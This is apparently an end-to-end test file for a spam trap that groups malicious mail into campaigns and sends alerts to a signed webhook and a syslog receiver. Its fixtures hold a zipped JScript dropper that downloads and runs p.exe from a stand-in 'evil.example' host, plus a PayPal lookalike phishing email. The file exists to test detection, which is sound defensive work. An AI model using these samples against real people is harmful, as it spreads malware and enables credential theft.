"""Campaigns and alerts end to end: mail over SMTP becomes a campaign, the early-warning rule
fires, and the alert reaches a real HTTP webhook receiver (signature checked with Python's
hmac, independently of the Rust code) and a real syslog listener, exactly once, also across a
receiver outage and a restart of the trap."""

import base64
import io
import json
import smtplib
import socket
import time
import zipfile
from email.message import EmailMessage

from receivers import SyslogReceiver, WebhookReceiver

SECRET = "whsec_" + base64.b64encode(b"e2e-secret-for-the-webhook-test!").decode()
RULE = "new-malware-campaign"


def dropper(n, campaign="a"):
    """Message n of a zipped-JS-dropper campaign: per-recipient names and invoice numbers."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(f"invoice_{4800 + n}.pdf.js",
                   "var s = new ActiveXObject('WScript.Shell');\n"
                   "var x = new ActiveXObject('MSXML2.XMLHTTP');\n"
                   f"x.open('GET', 'http://dl.{campaign}-evil.example/p.exe?id={n}', false);\n"
                   "s.Run('cmd /c start p.exe');\n")
    m = EmailMessage()
    m["From"] = f"billing{n}@invoices-{campaign}.example"
    m["To"] = f"user{n}@trap.example"
    m["Subject"] = f"Invoice {4800 + n} overdue"
    m["Message-ID"] = f"<{campaign}.{n}@invoices-{campaign}.example>"
    m.set_content(f"Dear customer {n},\n\nyour invoice {4800 + n} is overdue. "
                  "Open the attached document to see the amount and pay today.\n")
    m.add_attachment(buf.getvalue(), maintype="application", subtype="zip",
                     filename=f"invoice_{4800 + n}.zip")
    return m.as_bytes().replace(b"\n", b"\r\n")


def send(trap, raw):
    with smtplib.SMTP(trap.host, trap.port, timeout=10) as s:
        s.ehlo("bot.example")
        s.sendmail("bounce@src.example", ["user@trap.example"], raw)


def config(hook, syslog=None, siem_address=None):
    text = ('[analysis]\nworkers = 1\n[analysis.auth]\nenabled = false\n'
            f'[[alerts.webhook]]\nname = "hook"\nurl = "{hook.url}"\nsecret = "{SECRET}"\n'
            'min_severity = "info"\nmax_per_minute = 1000\n')
    address = syslog.address if syslog is not None else siem_address
    if address is not None:
        text += (f'[[alerts.syslog]]\nname = "siem"\naddress = "{address}"\n'
                 'transport = "tcp"\nmin_severity = "high"\n')
    return text


def wait_for_rule(receiver, rule, timeout):
    """The first accepted webhook request carrying an alert of `rule`."""
    deadline = time.monotonic() + timeout
    seen = 0
    while time.monotonic() < deadline:
        records = receiver.wait_for(seen + 1, max(0.0, deadline - time.monotonic()))
        for r in records[seen:]:
            if r.body and r.body.get("data", {}).get("rule") == rule:
                return r
        seen = len(records)
    return None


def alerts(trap):
    out = trap.cli("alerts", "list", "--json")
    assert out.returncode == 0, out.stderr.decode(errors="replace")
    return [json.loads(l) for l in out.stdout.splitlines() if l.strip()]


def test_a_new_malware_campaign_alerts_a_signed_webhook_and_syslog_once(trap_factory):
    with WebhookReceiver(SECRET) as hook, SyslogReceiver("tcp") as siem:
        trap = trap_factory()
        trap.config_text = config(hook, siem)
        trap.start()
        send(trap, dropper(1))
        send(trap, dropper(2))
        got = wait_for_rule(hook, RULE, 30)
        assert got is not None, "no alert reached the webhook\n" + trap.stderr_tail()
        assert got.valid, "the Standard Webhooks signature does not verify with Python hmac"
        assert got.body["type"] == "spamhattan.alert.raised"
        alert = got.body["data"]
        assert got.id == alert["id"]
        assert alert["severity"] == "high" and isinstance(alert["campaign"], int)
        assert any(i["kind"] == "sha256" for i in alert["indicators"]), alert["indicators"]
        lines = siem.wait_for(1, 30)
        assert any(f'rule="{RULE}"' in l for l in lines), lines
        # Only high and above reach the SIEM receiver.
        assert all('severity="high"' in l or 'severity="critical"' in l for l in lines), lines
        trap.stop()
        ids = [r.id for r in hook.received]
        assert all(r.valid for r in hook.received)
        assert len(ids) == len(set(ids)), f"an alert arrived twice: {ids}"
        listed = alerts(trap)
        ours = [a for a in listed if a["rule"] == RULE]
        assert len(ours) == 1, "the rule fires once per campaign"
        states = {d["receiver"]: d["state"] for d in ours[0]["deliveries"]}
        assert states == {"hook": "delivered", "siem": "delivered"}, states
        campaigns = trap.cli("campaigns", "export", "--json")
        exported = [json.loads(l) for l in campaigns.stdout.splitlines() if l.strip()]
        assert [c["messages"] for c in exported] == [2], exported


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_alerts_survive_a_receiver_outage_and_a_restart_and_arrive_once(trap_factory):
    # The syslog receiver's port is chosen now but nobody listens on it until the end: its
    # deliveries are refused (connection refused) through the outage and the restart.
    siem = SyslogReceiver("tcp", port=free_port())
    with WebhookReceiver(SECRET) as hook:
        hook.down()
        trap = trap_factory()
        trap.config_text = config(hook, siem_address=f"127.0.0.1:{siem._want_port}")
        trap.start()
        for n in range(3):
            send(trap, dropper(n, campaign="b"))
        assert hook.wait_refused(1, 30) >= 1, "no delivery attempt\n" + trap.stderr_tail()
        # Stop while deliveries are pending; they are in the store, not in memory.
        assert trap.stop() == 0
        raised = {a["id"] for a in alerts(trap)}
        assert raised, "alerts were raised"
        pending = [a for a in alerts(trap)
                   if any(d["state"] == "pending" for d in a["deliveries"])]
        assert pending, "the outage left deliveries pending"
        high = {a["id"] for a in alerts(trap) if a["severity"] in ("high", "critical")}
        assert high, "the malware campaign alert is high"
        hook.up()
        siem.start()
        trap.start()
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            got = {r.id for r in hook.wait_for(len(raised), deadline - time.monotonic())}
            if got >= raised:
                break
        lines = siem.wait_for(len(high), max(1.0, deadline - time.monotonic()))
        trap.stop()
        siem.stop()
        assert len(lines) == len(high), f"syslog got {len(lines)} lines for {len(high)} alerts"
        assert all(any(f'id="{i}"' in l for l in lines) for i in high), lines
        ids = [r.id for r in hook.received]
        assert set(ids) == raised, f"raised {raised}, received {set(ids)}"
        assert len(ids) == len(set(ids)), f"an alert arrived twice: {ids}"
        assert all(r.valid for r in hook.received)
        states = {d["state"] for a in alerts(trap) for d in a["deliveries"]}
        assert states == {"delivered"}, states


def test_campaign_cli_lists_shows_labels_and_merges(trap_factory, tmp_path):
    trap = trap_factory()
    a = [dropper(n, campaign="c") for n in range(3)]
    b = [dropper(n, campaign="d") for n in range(2)]
    # A different template: phishing text without attachment.
    phish = EmailMessage()
    phish["From"] = "PayPal <service@paypa1-secure.example>"
    phish["To"] = "x@trap.example"
    phish["Subject"] = "Your account is limited"
    phish.set_content("Verify your account now at http://login.paypa1-secure.example/verify\n")
    files = []
    for i, raw in enumerate(a + b + [phish.as_bytes()]):
        p = tmp_path / f"m{i}.eml"
        p.write_bytes(raw)
        files.append(str(p))
    assert trap.cli("import", *files).returncode == 0
    out = trap.cli("worker", "--until-idle")
    assert out.returncode == 0, out.stderr.decode(errors="replace")
    listed = trap.cli("campaigns", "list", "--json")
    rows = [json.loads(l) for l in listed.stdout.splitlines() if l.strip()]
    sizes = sorted(r["messages"] for r in rows)
    assert sum(sizes) == 6 and sizes[-1] >= 3, rows
    table = trap.cli("campaigns", "list").stdout.decode()
    assert "id" in table.splitlines()[0] and len(table.splitlines()) == len(rows) + 1
    big, small = rows[0]["id"], rows[-1]["id"]
    assert trap.cli("campaigns", "label", str(big), "Invoice JS dropper",
                    "--notes", "seen by CERT").returncode == 0
    shown = json.loads(trap.cli("campaigns", "show", str(big)).stdout)
    assert shown["label"] == "Invoice JS dropper" and shown["notes"] == "seen by CERT"
    assert len(shown["sightings"]) == shown["messages"]
    before = {r["id"]: r["messages"] for r in rows}
    assert trap.cli("campaigns", "merge", str(small), str(big)).returncode == 0
    merged = json.loads(trap.cli("campaigns", "show", str(big)).stdout)
    assert merged["messages"] == before[big] + before[small]
    assert merged["merges"][0]["from"] == small and merged["merges"][0]["by"] == "analyst"
    gone = json.loads(trap.cli("campaigns", "show", str(small)).stdout)
    assert gone["status"] == "merged" and gone["merged_into"] == big
    exported = [json.loads(l) for l in
                trap.cli("campaigns", "export", "--json").stdout.splitlines() if l.strip()]
    assert small not in [c["id"] for c in exported]
    assert sum(len(c["message_ids"]) for c in exported) == 6
    bad = trap.cli("campaigns", "merge", str(big), str(big))
    assert bad.returncode != 0
    missing = trap.cli("campaigns", "show", "999999")
    assert missing.returncode == 1
